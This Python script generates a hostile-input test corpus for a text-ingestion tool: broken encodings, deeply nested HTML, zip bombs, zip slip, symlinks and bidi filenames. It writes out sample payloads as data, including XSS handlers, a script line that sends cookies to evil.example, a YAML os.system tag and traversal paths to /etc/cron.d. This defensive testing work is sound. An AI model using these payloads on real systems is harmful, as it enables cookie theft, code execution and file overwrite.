#!/usr/bin/env python3
"""Generate the hostile and broken input corpus that `tests/hostile/` feeds to `letopis ingest`.

    python scripts/make_hostile.py OUT [--large] [--case NAME ...]

Each case is a folder `OUT/<case>/` holding the files of one kind of bad input: truncated UTF-8, mixed encodings,
NUL bytes, long single lines, many tiny files, deeply nested HTML, HTML with scripts and event handlers, front matter
with YAML tags or billion-laughs aliases, JSONL with broken lines, zip slip, zip bombs, empty archives, symlinks out
of the folder, right-to-left overrides and zero-width characters (and bytes that are not UTF-8) in names. What
letopis must make of each file is the test's table (`tests/hostile/test_hostile_inputs.py`), not this script's.

Nothing here is committed: the corpus is generated into a temporary folder at test time. The large cases (a 50 MB
line, 100 000 files) are built only with `--large`. Every text is invented; symlinks point at `/etc`, which exists
on any Unix, so the script never writes outside OUT.
"""
from __future__ import annotations

import argparse
import gzip
import io
import os
import sys
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

ARTICLE = ("Митинг в Алматы\n\n"
           "В среду в Алматы прошёл митинг против роста цен на газ. По данным полиции, задержаны 12 человек.\n"
           "«Мы требуем снизить цены», — заявил один из участников акции. Власти пообещали рассмотреть обращение.\n")
SECOND = "Во вторник в Бишкеке около двухсот человек вышли к Белому дому; акция прошла мирно.\n"
MB = 1024 * 1024
RLO, PDI, LRI, ZWSP, ZWJ, BOM = "\u202e", "\u2069", "\u2066", "\u200b", "\u200d", "\ufeff"
NON_UTF8_NAME = b"\xff\xfe-\xcd\xee\xe2\xee\xf1\xf2\xe8.txt"     # two stray bytes, then "Новости" in cp1251


@dataclass(frozen=True, slots=True)
class Case:
    name: str
    build: Callable[[Path], None]
    large: bool = False
    doc: str = ""


def _write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            if name.endswith("/"):
                zf.writestr(zipfile.ZipInfo(name), b"")
            else:
                zf.writestr(name, data)
    return buf.getvalue()


def _tar(members: dict[str, bytes | None], mode: str = "w:gz", links: dict[str, str] | None = None) -> bytes:
    """A tar archive; a member whose data is None is a folder. Names may be bytes-as-surrogates (non-UTF-8)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.GNU_FORMAT, encoding="utf-8",
                      errors="surrogateescape") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            if data is None:
                info.type = tarfile.DIRTYPE
                tf.addfile(info)
            else:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            tf.addfile(info)
    return buf.getvalue()


# --- the cases ---------------------------------------------------------------------------------------------------

def truncated_utf8(d: Path) -> None:
    data = ARTICLE.rstrip().encode("utf-8")       # ends in "обращение."; cut inside the last letter instead
    cut = data[: data.rindex("е".encode()) + 1]
    _write(d / "cut-mid-letter.txt", cut)


def mixed_encodings(d: Path) -> None:
    _write(d / "utf8-then-cp1251.txt", ARTICLE.encode("utf-8") + SECOND.encode("cp1251"))
    _write(d / "cp1251-then-utf8.txt", ARTICLE.encode("cp1251", "replace") + SECOND.encode("utf-8"))
    _write(d / "utf8-one-stray-byte.txt", ARTICLE.encode("utf-8").replace("«".encode(), b"\xab", 1))


def nul_bytes(d: Path) -> None:
    text = ARTICLE.encode("utf-8")
    _write(d / "nul-inside.txt", text[:40] + b"\x00\x00" + text[40:])
    _write(d / "utf16-without-bom.txt", ARTICLE.encode("utf-16-le"))     # NULs in every other byte, yet text


def long_line(d: Path) -> None:
    _write(d / "one-line-1mb.txt", "Очень длинная строка без переводов строки, митинг в Алматы. " * (MB // 110))


def long_line_large(d: Path) -> None:
    sentence = "Очень длинная строка без переводов строки, митинг в Алматы. ".encode()
    with open(d / "one-line-50mb.txt", "wb") as f:
        for _ in range(50 * MB // len(sentence) + 1):
            f.write(sentence)
    with open(d / "one-line-15mb.txt", "wb") as f:
        for _ in range(15 * MB // len(sentence)):
            f.write(sentence)


def many_files(d: Path, count: int = 100_000) -> None:
    for i in range(count):
        sub = d / f"{i // 1000:03d}"
        if i % 1000 == 0:
            sub.mkdir(parents=True, exist_ok=True)
        (sub / f"{i:06d}.txt").write_bytes(f"Заметка номер {i}: в Алматы прошёл митинг.".encode())


def deep_html(d: Path, depth: int = 50_000) -> None:
    page = ("<!doctype html><html><head><title>Глубокая вложенность</title></head><body>"
            + "<div>" * depth + "<p>В Алматы прошёл митинг против роста цен на газ, задержаны 12 человек.</p>"
            + "</div>" * depth + "</body></html>")
    _write(d / "nested-divs.html", page)
    _write(d / "unclosed-divs.html", page.replace("</div>", ""))


def script_html(d: Path) -> None:
    page = """<!doctype html>
<html><head><title>Митинг в Бишкеке</title>
<script>alert("script-in-head"); document.cookie = "stolen";</script>
<style>body { background: url("javascript:alert('style')") }</style>
</head>
<body onload="alert('onload')">
<article>
<h1 onclick="alert('h1')">Митинг в Бишкеке</h1>
<p onmouseover="alert('p')">Во вторник в Бишкеке около двухсот человек вышли к Белому дому.</p>
<img src="x" onerror="alert('img')">
<script type="text/javascript">window.location = "https://evil.example/?" + document.cookie;</script>
<p>Акция прошла мирно, <a href="javascript:alert('link')">сообщили организаторы</a>.</p>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<iframe srcdoc="<script>alert('iframe')</script>"></iframe>
<noscript><p>Включите JavaScript.</p></noscript>
</article>
</body></html>
"""
    _write(d / "scripts-and-handlers.html", page)


def html_unclosed(d: Path) -> None:
    head = "<!doctype html><html><body><article><p>В Алматы прошёл митинг против роста цен на газ.</p></article>"
    _write(d / "unclosed-tags.html", head + "<a " * 100_000)
    _write(d / "unclosed-quotes.html", head + '<a title="' * 50_000)
    _write(d / "unclosed-comment.html", head + "<!--" + "x" * 200_000)


def markdown_brackets(d: Path) -> None:
    _write(d / "brackets.md", "# Митинг в Алматы\n\n" + "[" * 200_000 + "\n\nВ среду прошёл митинг.\n")
    _write(d / "parens.md", "# Митинг в Алматы\n\n" + "[a](" * 50_000 + "\n\nВ среду прошёл митинг.\n")


def yaml_tags(d: Path) -> None:
    _write(d / "python-object.md", '---\ntitle: !!python/object/apply:os.system ["echo pwned"]\n---\n' + ARTICLE)
    _write(d / "custom-tag.md", "---\ntitle: Митинг\ndate: !timestamp 2022-01-05\n---\n" + ARTICLE)


def yaml_aliases(d: Path) -> None:
    laughs = ['a: &a ["ха","ха","ха","ха","ха","ха","ха","ха","ха"]']
    for i, name in enumerate("bcdefghi"):
        prev = "abcdefghi"[i]
        laughs.append(f"{name}: &{name} [{', '.join(['*' + prev] * 9)}]")
    _write(d / "billion-laughs.md", "---\n" + "\n".join(laughs) + "\ntitle: Митинг\n---\n" + ARTICLE)
    _write(d / "deep-nesting.md", "---\ntitle: " + "[" * 200 + "]" * 200 + "\n---\n" + ARTICLE)


def jsonl_broken(d: Path) -> None:
    lines = [
        '{"title": "Первая", "date": "2022-01-05", "text": "В Алматы прошёл митинг."}',
        '{"title": "Оборванная", "text": "В Бишкеке',
        '[1, 2, 3]',
        '{"title": "Без текста"}',
        '{"text": "   "}',
        '[' * 100_000 + ']' * 100_000,
        '{"text": "Половина символа \\ud800 в тексте"}',
        '{"title": "Половина \\udfff в заголовке", "text": "Текст с исправным телом."}',
        '{"text": "Символ NUL \\u0000 внутри текста, митинг прошёл."}',
        '{"title": "Последняя", "text": "Во вторник в Бишкеке прошла акция."}',
    ]
    _write(d / "feed.jsonl", "\n".join(lines) + "\n")


def zip_slip(d: Path) -> None:
    ok = ARTICLE.encode()
    _write(d / "slip.zip", _zip({"../../evil.txt": b"evil", "/etc/cron.d/evil": b"evil", "C:/evil.txt": b"evil",
                                 "dir/../../evil.txt": b"evil", "ok.txt": ok}))
    _write(d / "slip.tar.gz", _tar({"../evil.txt": b"evil", "ok.txt": ok}, links={"link.txt": "/etc/passwd"}))


def zip_bombs(d: Path) -> None:
    zeros = bytes(50 * MB)
    _write(d / "ratio.zip", _zip({"zeros.txt": zeros}))
    _write(d / "zeros.txt.gz", gzip.compress(zeros, compresslevel=9))
    _write(d / "zeros.tar.gz", _tar({"zeros.txt": zeros}))
    inner = _zip({"deepest.txt": ARTICLE.encode()})
    _write(d / "nested.zip", _zip({"level1.zip": _zip({"level2.zip": inner})}))


def empty_archives(d: Path) -> None:
    _write(d / "empty.zip", _zip({}))
    _write(d / "only-folders.tar.gz", _tar({"a": None, "a/b": None}))
    _write(d / "only-hidden.zip", _zip({".hidden.txt": b"x", "__MACOSX/._a.txt": b"x"}))


def symlinks(d: Path) -> None:
    d.mkdir(parents=True, exist_ok=True)
    _write(d / "real.txt", ARTICLE)
    os.symlink("real.txt", d / "inside-link.txt")
    os.symlink("/etc/passwd", d / "outside-file-link.txt")
    os.symlink("/etc", d / "outside-dir-link")
    os.symlink("no-such-file.txt", d / "dangling-link.txt")
    os.symlink(".", d / "loop-dir-link")
    if hasattr(os, "mkfifo"):
        os.mkfifo(d / "named-pipe.txt")


def names(d: Path) -> None:
    d.mkdir(parents=True, exist_ok=True)
    _write(d / f"отчёт{RLO}txt.exe.txt", ARTICLE)
    _write(d / f"но{ZWSP}вости{ZWJ}.txt", SECOND + ARTICLE)
    _write(d / f"{LRI}изолят{PDI}.md", "# Изолят\n\n" + SECOND)
    _write(d / "bidi-text.txt", f"Заголовок с {RLO}обращением{PDI}\n\nТекст{ZWSP} с нулевой{ZWJ} шириной и {BOM}BOM.\n")
    with open(os.path.join(os.fsencode(d), NON_UTF8_NAME), "wb") as f:
        f.write(("Новости в чужой кодировке имени\n\n" + SECOND).encode())
    _write(d / "members.zip", _zip({f"{RLO}gpj.txt": ARTICLE.encode(), f"а{ZWSP}б.txt": SECOND.encode()}))
    _write(d / "members.tar", _tar({os.fsdecode(b"\xe9t\xe9.txt"): SECOND.encode()}, mode="w"))


CASES: tuple[Case, ...] = (
    Case("truncated-utf8", truncated_utf8, doc="UTF-8 cut inside its last character"),
    Case("mixed-encodings", mixed_encodings, doc="UTF-8 and cp1251 in one file"),
    Case("nul-bytes", nul_bytes, doc="NUL bytes in UTF-8 text; UTF-16 without a BOM"),
    Case("long-line", long_line, doc="a 1 MB line without a newline"),
    Case("long-line-large", long_line_large, large=True, doc="50 MB and 15 MB single lines"),
    Case("many-files", many_files, large=True, doc="100 000 tiny files"),
    Case("deep-html", deep_html, doc="50 000 nested <div>s, closed and unclosed"),
    Case("script-html", script_html, doc="<script>, event handlers, javascript: URLs"),
    Case("html-unclosed", html_unclosed, doc="100 000 unclosed tags, quotes, a comment"),
    Case("markdown-brackets", markdown_brackets, doc="200 000 [ on one line, 50 000 [a]("),
    Case("yaml-tags", yaml_tags, doc="front matter with !!python/object and custom tags"),
    Case("yaml-aliases", yaml_aliases, doc="billion laughs, 200-deep nesting"),
    Case("jsonl-broken", jsonl_broken, doc="JSONL with broken, deep, surrogate and NUL lines"),
    Case("zip-slip", zip_slip, doc="archive members climbing out with .. or absolute paths, links"),
    Case("zip-bomb", zip_bombs, doc="50 MB of zeros zipped, gzipped, tarred; zip in zip in zip"),
    Case("empty-archive", empty_archives, doc="archives with no file to read"),
    Case("symlinks", symlinks, doc="links out of the folder, dangling, looping; a named pipe"),
    Case("names", names, doc="RLO and zero-width characters, non-UTF-8 bytes in names"),
)


def build(out: Path, large: bool = False, only: tuple[str, ...] = ()) -> dict[str, Path]:
    """Write the cases into `out` (the large ones only with `large`); {case name: its folder}."""
    built = {}
    for case in CASES:
        if (case.large and not large and case.name not in only) or (only and case.name not in only):
            continue
        folder = Path(out) / case.name
        folder.mkdir(parents=True, exist_ok=True)
        case.build(folder)
        built[case.name] = folder
    return built


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path, help="folder to write the cases into (created)")
    parser.add_argument("--large", action="store_true", help="also the 50 MB line and the 100 000 files")
    parser.add_argument("--case", action="append", default=[], help="only this case (repeatable)")
    args = parser.parse_args(argv)
    for name, folder in build(args.out, args.large, tuple(args.case)).items():
        print(f"{name}\t{folder}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
